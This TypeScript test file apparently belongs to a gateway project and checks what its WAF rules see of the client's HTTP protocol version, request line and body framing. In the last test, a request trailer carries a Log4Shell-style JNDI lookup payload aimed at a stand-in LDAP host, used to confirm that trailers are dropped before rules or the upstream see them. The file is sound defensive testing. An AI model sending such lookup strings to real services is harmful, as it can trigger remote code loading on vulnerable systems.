/** What the rules of the WAF see of the protocol: the one that the client spoke. */
import assert from 'node:assert/strict';
import { connect } from 'node:http2';
import { after, before, describe, it } from 'node:test';
import type { Explanation } from '../../src/admin/explain.ts';
import { plainBundle } from '../harness/bundle.ts';
import { testAuthority } from '../harness/certs.ts';
import type { TestGateway } from '../harness/gateway.ts';
import { ask, askRaw, codeOf, idOf } from './client.ts';
import { Given } from './given.ts';

/** As CRS 920180 asks it: only before HTTP/2 does a body need a length or chunks. */
const RULES = `SecRule REQUEST_PROTOCOL "@unconditionalMatch" "id:100,phase:1,deny,msg:'%{REQUEST_HEADERS.host} %{REQUEST_LINE}',chain"
SecRule REQUEST_URI "@streq /told" "t:none"
SecRule REQUEST_PROTOCOL "!@within HTTP/2 HTTP/2.0 HTTP/3 HTTP/3.0" "id:101,phase:1,deny,chain"
SecRule REQUEST_METHOD "@streq POST" "chain"
SecRule &REQUEST_HEADERS:Content-Length "@eq 0" "chain"
SecRule &REQUEST_HEADERS:Transfer-Encoding "@eq 0" "t:none"
`;

describe('waf: the protocol', () => {
  const given = new Given();
  let gateway: TestGateway;

  before(async () => {
    const upstream = await given.upstream({
      behaviours: {
        trailed: (request, response) => {
          request.resume().on('end', () => response.end(JSON.stringify(request.trailers)));
        },
      },
    });
    gateway = await given.gateway({
      bundle: plainBundle([upstream.address], {
        waf: {
          mode: 'block',
          rules: [
            'waf/test.conf',
            {
              name: 'second',
              when: 'http.request.path eq "/second" and http.request.version eq "HTTP/2.0"',
              action: 'block',
            },
          ],
        },
        files: { 'waf/test.conf': RULES },
      }),
      bootstrap: { lanes: 1 },
    });
  });
  after(() => given.end());

  /** Over HTTP/2. */
  async function asked(path: string, method = 'GET', content = ''): Promise<{ status: number; body: string }> {
    const session = connect(`https://127.0.0.1:${gateway.ports.https}`, {
      ca: testAuthority().certificate,
      servername: 'localhost',
    });
    const stream = session.request({ ':path': path, ':method': method, ':authority': 'shop.test' });
    if (content !== '') stream.end(content);
    let body = '';
    stream.setEncoding('utf8');
    stream.on('data', (text: string) => (body += text));
    const status = await new Promise<number>((resolve, reject) => {
      session.once('error', reject);
      stream.once('error', reject);
      stream.once('response', (head) => stream.once('end', () => resolve(Number(head[':status']))));
    });
    session.destroy();
    return { status, body };
  }
  const toldOf = async (id: string): Promise<string | undefined> =>
    ((await gateway.admin(`/v1/explain/${id}`)) as Explanation).waf.matches[0]?.message;
  const idIn = (body: string): string => idOf({ status: 0, headers: {}, body });

  it('rules see which one it is, in the request line too, and the host whichever field names it', async () => {
    const one = await ask(gateway.ports.http, '/told', { headers: { host: 'shop.test' } });
    assert.equal(await toldOf(idIn(one.body)), 'shop.test GET /told HTTP/1.1');
    const old = await askRaw({ port: gateway.ports.http }, 'GET /told HTTP/1.0\r\nHost: shop.test\r\n\r\n');
    old.connection.destroy();
    assert.equal(await toldOf(idIn(old.body.toString())), 'shop.test GET /told HTTP/1.0');
    const two = await asked('/told');
    assert.equal(await toldOf(idIn(two.body)), 'shop.test GET /told HTTP/2.0');
  });

  it('a body of HTTP/2 needs no length', async () => {
    assert.equal((await asked('/', 'POST', 'a=1')).status, 200);
    const bare = await ask(gateway.ports.http, '/', {
      method: 'POST',
      headers: { host: 'shop.test', 'content-length': 0 },
    });
    assert.equal(bare.status, 200);
    const unframed = await askRaw({ port: gateway.ports.http }, 'POST / HTTP/1.1\r\nHost: shop.test\r\n\r\n', 'POST');
    unframed.connection.destroy();
    assert.equal(codeOf({ body: unframed.body.toString() }), 'waf_blocked');
  });

  it('expressions see it too', async () => {
    assert.equal((await asked('/second')).status, 403);
    assert.equal((await ask(gateway.ports.http, '/second', { headers: { host: 'shop.test' } })).status, 200);
  });

  it('trailers of a request end here: no rule has seen them', async () => {
    const { status, body } = await askRaw(
      { port: gateway.ports.http },
      'POST /trailed HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Api: ${jndi:ldap://x.test}\r\n\r\n',
    );
    assert.deepEqual([status, body.toString()], [200, '{}']);
  });
});
